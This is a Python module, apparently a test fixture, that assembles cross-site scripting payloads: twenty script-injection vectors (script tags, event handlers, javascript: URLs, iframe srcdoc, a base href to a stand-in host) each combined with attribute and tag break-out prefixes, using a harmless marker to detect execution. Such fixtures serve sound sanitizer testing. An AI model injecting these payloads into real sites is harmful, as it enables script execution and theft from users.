"""Names that are HTML with a script in it, each behind everything that it may have to break out of."""

from typing import Final

#: What each script does. A page in which `hit` is defined has run one.
HIT: Final = "top.hit=1"

_SCRIPTS: Final = (
    f"<script>{HIT}</script>",
    f"<ScRiPt x>{HIT}</sCrIpT >",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<body onload={HIT}>",
    f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<style onload={HIT}></style>",
    f"<object data=javascript:{HIT}></object>",
    "<base href=//evil.test/>",
    f"<meta http-equiv=refresh content=0;url=javascript:{HIT}>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<a href=javascript:{HIT}>x</a>",
)
_BEHIND: Final = ("", '">', "'>", "--></title></textarea></script></style></code></pre>")

PAYLOADS: Final = tuple(behind + script for script in _SCRIPTS for behind in _BEHIND)
